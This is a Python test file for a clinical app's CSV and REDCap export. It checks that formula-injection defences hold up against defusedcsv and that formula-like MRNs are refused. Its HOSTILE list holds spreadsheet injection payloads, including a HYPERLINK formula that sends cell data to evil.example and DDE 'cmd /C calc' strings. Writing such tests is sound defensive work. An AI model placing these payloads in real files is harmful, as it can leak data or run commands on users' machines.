"""Spreadsheet formula injection (OWASP's CSV-injection rule), checked against defusedcsv, a library
written to that rule: no cell of any CSV export is one defusedcsv would still have to escape, the files
import back to exactly the values exported, and an MRN that looks like a formula is refused both when
typed in and when imported."""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path

import defusedcsv.csv as defused
import pytest

from sijpro.errors import InputErrors
from sijpro.exchange import export_csv, redcap
from sijpro.exchange.csv_files import neutralise, restore
from sijpro.exchange.import_csv import parse_import_files
from sijpro.exchange.subjects import prepare_export
from sijpro.mrn import mrn_problem
from sijpro.protocol import default_protocol
from tests.exchange_data import make_courses
from tests.factories import patient_draft
from tests.test_export_csv import EXPORTED_AT

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "%0A=1+1",
    "|calc",
    "'=already quoted",
    "''-twice",
    "-",
)
"""Family names a hostile or careless hand may type: each is a formula to Excel or LibreOffice."""


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def defused_would_change(rows: list[list[str]]) -> list[str]:
    """The cells that defusedcsv's writer would still escape if it wrote these rows again."""
    buffer = io.StringIO()
    defused.writer(buffer).writerows(rows)
    rewritten = list(csv.reader(io.StringIO(buffer.getvalue())))
    return [before for row, again in zip(rows, rewritten, strict=True)
            for before, after in zip(row, again, strict=True) if before != after]


def hostile_courses():
    courses = make_courses(len(HOSTILE), seed=3)
    return [dataclasses.replace(course, patient=dataclasses.replace(course.patient, family_name=name,
                                                                    given_name="+" + name))
            for course, name in zip(courses, HOSTILE, strict=True)]


@pytest.mark.parametrize("deidentify", [False, True])
def test_no_exported_cell_is_a_formula_by_the_reference(tmp_path: Path, deidentify: bool) -> None:
    made = prepare_export(hostile_courses(), default_protocol(), EXPORTED_AT, deidentify=deidentify, key=b"k")
    written = [tmp_path / "csv" / name for name in export_csv.write_csv_export(made, tmp_path / "csv")]
    written += [tmp_path / "redcap" / name for name in redcap.write_redcap_export(made, tmp_path / "redcap")
                if name.endswith(".csv")]
    checked = 0
    for path in written:
        rows = cells(path)
        assert defused_would_change(rows) == [], path.name
        for row in rows:
            for cell in row:
                assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or cell.lstrip("-").replace(".", "").isdigit()
                checked += 1
    assert checked > 1000
    if not deidentify:
        patients = {row["family_name"] for row in csv.DictReader((tmp_path / "csv" / "patients.csv").open())}
        assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in patients
        assert "'''-twice" in patients  # one more quote than typed, so the import gives back two


def test_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    """Days before surgery are negative numbers, not formulas: pandas and R must still read them as numbers."""
    made = prepare_export(make_courses(6, seed=2), default_protocol(), EXPORTED_AT, deidentify=True, key=b"k")
    export_csv.write_csv_export(made, tmp_path)
    days = [row["days_from_surgery"] for row in csv.DictReader((tmp_path / "responses.csv").open())]
    assert any(day.startswith("-") for day in days)
    assert all(day.lstrip("-").isdigit() for day in days)


def test_hostile_names_import_back_exactly(tmp_path: Path) -> None:
    courses = hostile_courses()
    made = prepare_export(courses, default_protocol(), EXPORTED_AT, key=b"k")
    export_csv.write_csv_export(made, tmp_path)
    batch = parse_import_files([tmp_path / "patients.csv", tmp_path / "responses.csv"])
    read_back = {draft.mrn: (draft.family_name, draft.given_name) for draft, _ in batch.patients}
    assert read_back == {c.patient.mrn: (c.patient.family_name, c.patient.given_name) for c in courses}


@pytest.mark.parametrize("text", [*HOSTILE, "", "'", "''", "plain", "-12", "-3.5", "O'Brien", "=", "'-1"])
def test_neutralise_and_restore_are_inverse(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert not defused_would_change([[neutralise(text)]])


@pytest.mark.parametrize("mrn", ["-2+3", "=1+1", "+41", "@SUM(A1)", "-12345", "1\t2", "AB 12", "A|B", "12%"])
def test_formula_like_mrn_refused_on_import(tmp_path: Path, mrn: str) -> None:
    path = tmp_path / "patients.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["mrn", "surgery_date"])
        writer.writerow(["H1", "2024-01-10"])
        writer.writerow([mrn, "2024-01-10"])
    with pytest.raises(InputErrors) as caught:
        parse_import_files([path])
    assert [message.split(": ", 1)[0] for message in caught.value.problems] == ["patients.csv, line 3, field mrn"]


def test_neutralised_mrn_in_a_file_is_refused_too(tmp_path: Path) -> None:
    """An export never holds such an MRN, but a hand-made file may quote one: the quote does not let it in."""
    path = tmp_path / "patients.csv"
    path.write_text("mrn,surgery_date\n'-2+3,2024-01-10\n", encoding="utf-8")
    with pytest.raises(InputErrors, match="line 2, field mrn"):
        parse_import_files([path])


@pytest.mark.parametrize("mrn", ["=HYPERLINK(1)", "-2+3", "@A1", "+1", "A B", "a\x00b", "x" * 65])
def test_formula_like_mrn_refused_on_entry(clinic, mrn: str) -> None:
    with pytest.raises(InputErrors, match="field 'mrn'"):
        clinic.patients.register(patient_draft(mrn))
    assert clinic.patients.registered([mrn.replace("\x00", "")]) == frozenset()


@pytest.mark.parametrize("mrn", ["H1234567", "2024/0017", "ab-12_3.4", "Ünal7", "12-"])
def test_ordinary_mrns_accepted(mrn: str) -> None:
    assert mrn_problem(mrn) is None
